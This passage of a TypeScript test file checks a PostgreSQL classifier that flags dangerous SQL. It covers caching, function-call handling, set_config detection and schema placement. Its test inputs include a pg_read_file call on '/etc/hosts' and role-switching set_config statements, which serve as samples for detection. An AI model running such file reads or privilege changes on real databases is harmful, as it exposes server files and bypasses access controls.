  clearSqlClassifyCache();
  const sql = "select pg_read_file('/etc/hosts') from t where id = 7";
  const before = sqlClassifyCacheStats();
  const a = classifySql(sql, opts);
  const b = classifySql(sql, opts);
  assert.equal(a, b);
  const mid = sqlClassifyCacheStats();
  assert.equal(mid.hits - before.hits, 1);
  assert.equal(mid.misses - before.misses, 1);
  assert.equal(mid.entries, 1);

  const none = new Set<string>();
  const c = classifySql(sql, { dangerousFunctions: none });
  assert.equal(c.ok && c.statements[0]!.flags.includes('dangerous_function'), false);
  assert.equal(a.ok && a.statements[0]!.flags.includes('dangerous_function'), true, 'earlier results are not mutated');
  assert.equal(c.fingerprint, a.fingerprint);
  assert.equal(sqlClassifyCacheStats().misses, mid.misses, 'a different list reuses the parsed entry');
  assert.equal(classifySql(sql, { dangerousFunctions: none }), c);

  // Shared results are frozen: a caller cannot corrupt the cache.
  assert.throws(() => (a.ok ? a.statements[0]!.flags : []).push('no_where'), TypeError);
  assert.throws(() => Object.assign(c, { fingerprint: 'x' }), TypeError);
});

test('Lru: bounded by entries and by bytes, least recently used goes first', () => {
  const lru = new Lru<string, string>({ maxEntries: 3, maxBytes: 100, sizeOf: (k, v) => k.length + v.length });
  lru.set('a', 'x');
  lru.set('b', 'x');
  lru.set('c', 'x');
  assert.equal(lru.get('a'), 'x'); // a is now the youngest
  lru.set('d', 'x');
  assert.equal(lru.get('b'), undefined, 'b was the least recently used');
  assert.deepEqual([lru.get('a'), lru.get('c'), lru.get('d')], ['x', 'x', 'x']);
  assert.equal(lru.size, 3);

  lru.set('big', 'y'.repeat(97)); // 100 bytes: the others must go to fit
  assert.equal(lru.size, 1);
  assert.ok(lru.stats().bytes <= 100);
  lru.set('huge', 'z'.repeat(200)); // larger than the whole budget: not kept, nothing evicted
  assert.equal(lru.get('huge'), undefined);
  assert.equal(lru.get('big')?.length, 97);

  lru.set('big', 'small'); // replacing an entry updates the byte count
  assert.equal(lru.stats().bytes, 8);
  const s = lru.stats();
  assert.equal(s.entries, 1);
  assert.ok(s.evictions >= 4 && s.hits >= 5 && s.misses >= 2);
  assert.throws(() => new Lru({ maxEntries: 0, maxBytes: 1, sizeOf: () => 1 }), RangeError);
});

test('classifyFunctionCall: a FunctionCall message as a synthetic statement', () => {
  const fn = classifyFunctionCall({ oid: 1574, schema: 'pg_catalog', name: 'nextval', volatility: 'v', kind: 'f', nargs: 1 }, 1);
  assert.ok(fn.ok);
  const s = fn.statements[0]!;
  assert.equal(s.kind, 'select');
  assert.deepEqual(s.kinds, ['select']);
  assert.deepEqual(s.functions, ['pg_catalog.nextval']);
  assert.equal(s.text, '-- function call: pg_catalog.nextval(1 args)');
  assert.equal(s.readWrite, undefined);
  assert.equal(fn.fingerprint, createHash('sha256').update(s.text).digest('hex'));

  const proc = classifyFunctionCall({ oid: 99999, schema: 'public', name: 'p_del', volatility: 'v', kind: 'p', nargs: 2 }, 2);
  assert.ok(proc.ok);
  assert.equal(proc.statements[0]!.kind, 'call');
  assert.deepEqual(proc.statements[0]!.functions, ['public.p_del']);

  // set_config by OID: the arguments are not seen, so any setting and a read-write escape.
  const sc = classifyFunctionCall({ oid: 2078, schema: 'pg_catalog', name: 'set_config', volatility: 'v', kind: 'f', nargs: 3 }, 3, { dangerousFunctions: opts.dangerousFunctions });
  assert.ok(sc.ok);
  assert.deepEqual(sc.statements[0]!.settings, ['*']);
  assert.equal(sc.statements[0]!.readWrite, true);
  assert.deepEqual(sc.statements[0]!.flags, ['dangerous_function']);

  const unknown = classifyFunctionCall(undefined, 0, { oid: 4242 });
  assert.equal(unknown.ok, false);
  assert.equal(unknown.ok ? '' : unknown.error, 'unknown function oid 4242');
});

test('set_config of a harmless setting does not count toward dangerous_function; of others it does', () => {
  const flagsOf = (sql: string): SqlFlag[] => {
    const c = classifySql(sql, opts);
    assert.ok(c.ok);
    return c.statements[0]!.flags;
  };
  assert.deepEqual(flagsOf("select set_config('application_name', 'x', false)"), []);
  assert.deepEqual(flagsOf("select set_config('application_name', 'x', false), set_config('role', 'a', false)"), ['dangerous_function']);
  assert.deepEqual(flagsOf("select set_config('standard_conforming_strings', 'off', false)"), ['dangerous_function']);
  // A set_config of another schema is not the built-in.
  assert.deepEqual(flagsOf("select evil.set_config('application_name', 'x', false)"), ['dangerous_function']);
});

test('unqualified: relation names written without a schema, which the gate places in the catalog', () => {
  const u = (sql: string): string[][] => {
    const c = classifySql(sql, opts);
    assert.ok(c.ok, sql);
    return c.statements.map((s) => [...(s.unqualified ?? [])].sort());
  };
  assert.deepEqual(u('select * from users join hr.salaries s on true'), [['users']]);
  assert.deepEqual(u('with x as (select 1) select * from x'), [[]], 'a CTE is not a relation');
  assert.deepEqual(u('create temp table tt (a int)'), [[]], 'temporary: pg_temp');
  assert.deepEqual(u('drop table a, hr.b'), [['a']]);
  assert.deepEqual(u('alter table a rename to b'), [['a', 'b']]);
  assert.deepEqual(u('insert into t select * from public.u; select 1 from pg_class'), [['t'], ['pg_class']]);
  assert.deepEqual(u('create index i on t (a)'), [['t']]);
});

test('namespace ops: FETCH and MOVE name the portal they run, WITH HOLD is marked, EXPLAIN ANALYZE EXECUTE names what it runs', () => {
  const op = (sql: string): unknown => {
    const c = classifySql(sql, opts);
    assert.ok(c.ok, sql);
    return c.statements[0]!.names;
  };
  assert.deepEqual(op('fetch all from c'), { op: 'fetch', name: 'c' });
  assert.deepEqual(op('move forward 3 in "C"'), { op: 'fetch', name: 'C' });
  assert.deepEqual(op('declare h cursor with hold for select 1'), { op: 'declare', name: 'h', hold: true });
  assert.deepEqual(op('declare c scroll cursor without hold for select 1'), { op: 'declare', name: 'c' });
  assert.deepEqual(op('explain analyze execute p'), { op: 'execute', name: 'p' });
  assert.deepEqual(op('explain (analyze false) execute p'), undefined, 'plans only');
  assert.deepEqual(op('explain execute p'), undefined);
  assert.deepEqual(op('create table t2 as execute p'), { op: 'execute', name: 'p' }, 'CREATE TABLE AS EXECUTE runs p');
  assert.deepEqual(op('explain analyze create table t2 as execute p'), { op: 'execute', name: 'p' });
  assert.deepEqual(op('create table t2 as select 1'), undefined);
});

test('DDL placed in its schema: CREATE SCHEMA elements and AUTHORIZATION, functions created, altered and dropped; a trigger names its function', () => {
  const first = (sql: string): ClassifiedStatement => {
    const c = classifySql(sql, opts);
    assert.ok(c.ok, sql);
    return c.statements[0]!;
  };
  // The elements' objects are created in the new schema, whatever the search_path.
  const s = first('create schema s create table t (a int) create view v as select a from t create sequence q');
  assert.deepEqual([...s.writes].sort(), ['s.*', 's.q', 's.t', 's.v']);
  // AUTHORIZATION alone names the schema after the role; CURRENT_USER is not known here.
  assert.deepEqual(first('create schema authorization app create table t (a int)').writes, ['app.*', 'app.t']);
  assert.deepEqual(first('create schema authorization current_user').writes, ['?.*']);
  // A function is placed like a relation; unqualified, search_path decides (`?`).
  assert.deepEqual(first("create or replace function scratch.f() returns int language sql as 'select 1'").writes, ['scratch.f']);
  assert.deepEqual(first("create function f() returns int language sql as 'select 1'").writes, ['?.f']);
  assert.deepEqual(first('alter function scratch.f() security definer').writes, ['scratch.f']);
  assert.deepEqual(first('drop function scratch.f(), pg_temp.g(int)').writes, ['scratch.f', 'pg_temp.g']);
  // A parent gains the child's rows (INHERITS) or routes writes to it (PARTITION OF): written; LIKE only reads.
  assert.deepEqual([...first('create table scratch.c () inherits (public.users)').writes].sort(), ['public.users', 'scratch.c']);
  assert.deepEqual([...first('create table scratch.p partition of public.orders for values in (1)').writes].sort(), ['public.orders', 'scratch.p']);
  const like = first('create table scratch.l (like public.users)');
  assert.deepEqual([like.reads, like.writes, like.copies], [['public.users'], ['scratch.l'], undefined]);
  // INCLUDING copies the source's stored code (defaults, CHECKs, indexes) to the new table.
  const including = first('create temp table l (like scratch.src including defaults, like public.b)');
  assert.deepEqual([[...including.reads].sort(), including.copies], [['public.b', 'scratch.src'], ['scratch.src']]);
  // DDL of an object placed in no schema changes something no relation glob names.
  assert.deepEqual(first('alter role app set role = admin_role').writes, ['?.*']);
  assert.deepEqual(first('alter function scratch.f() owner to admin_role').writes, ['?.*']);
  // The trigger's function runs on later writes the gate may not see in the catalog: a call here.
  const trg = first('create trigger x before insert on pg_temp.t for each row execute function public.trg_wipe()');
  assert.deepEqual(trg.functions, ['public.trg_wipe']);
  assert.deepEqual(trg.writes, ['pg_temp.t']);
});

test('SQL/JSON syntax newer than PostgreSQL 15, and names the grammar qualified itself, are possible calls and types by their bare names', () => {
  const first = (sql: string): ClassifiedStatement => {
    const c = classifySqlUncached(sql, opts);
    assert.ok(c.ok, sql);
    return c.statements[0]!;
  };
  for (const [sql, name] of [
    ['select json_array(1)', 'json_array'],
    ['select json_array()', 'json_array'],
    ['select json_object()', 'json_object'],
    ["select json_object('{a,1}')", 'json_object'],
    ['select json_scalar(1)', 'json_scalar'],
    ['select json_serialize(1)', 'json_serialize'],
    ['select json(1)', 'json'],
    ["select json_value(1, 'x')", 'json_value'],
    ["select json_query(1, 'x')", 'json_query'],
    ["select json_exists(1, 'x')", 'json_exists'],
    ['select json_arrayagg(id) from t', 'json_arrayagg'],
    ['select merge_action()', 'merge_action'],
  ] as const) {
    assert.ok(first(sql).maybeCalls.includes(name), `${sql}: ${name} in ${JSON.stringify(first(sql).maybeCalls)}`);
  }
  // Written qualified: pg_catalog's alone, as the server reads it too.
  assert.deepEqual(first("select pg_catalog.json_object('{a,1}')").maybeCalls, []);
  assert.deepEqual(first('select "pg_catalog".json_object(\'{a,1}\')').maybeCalls, []);
  assert.deepEqual(first("select '1'::json").types.sort(), ['json', 'pg_catalog.json']);
  assert.deepEqual(first("select json '1'").types.sort(), ['json', 'pg_catalog.json']);
  assert.deepEqual(first("select '1'::pg_catalog.json").types, ['pg_catalog.json']);
  // Keywords the grammar renames (int → int4) are not the bare name written.
  assert.deepEqual(first('select 1::int').types, ['pg_catalog.int4']);
  // Byte offsets: a multibyte character before the name does not shift the check.
  assert.deepEqual(first("select 'é', '1'::json").types.sort(), ['json', 'pg_catalog.json']);
});

test('names are folded as PostgreSQL folds identifiers: ASCII letters only', () => {
  assert.equal(foldIdentifier('F_DEL'), 'f_del');
  assert.equal(foldIdentifier('pg_catalog.Upper'), 'pg_catalog.upper');
  assert.equal(foldIdentifier('already_lower'), 'already_lower');
  // JavaScript's toLowerCase maps these to other names (KELVIN SIGN to `k`, `É` to `é`); PostgreSQL keeps them.
  assert.equal(foldIdentifier('pg_bac\u212Aend_pid'), 'pg_bac\u212Aend_pid');
  assert.equal(foldIdentifier('ÉW14'), 'Éw14');
  const one = (sql: string): ClassifiedStatement => {
    const c = classifySql(sql, { dangerousFunctions: new Set() });
    assert.ok(c.ok, sql);
    return c.statements[0]!;
  };
  assert.deepEqual(one('select "pg_bac\u212Aend_pid"()').functions, ['pg_bac\u212Aend_pid']);
  assert.deepEqual(one('select "w14_É"(), F_DEL()').functions, ['w14_É', 'f_del']);
  assert.ok(one('select 1::"ÉW14"').types.includes('Éw14'));
});
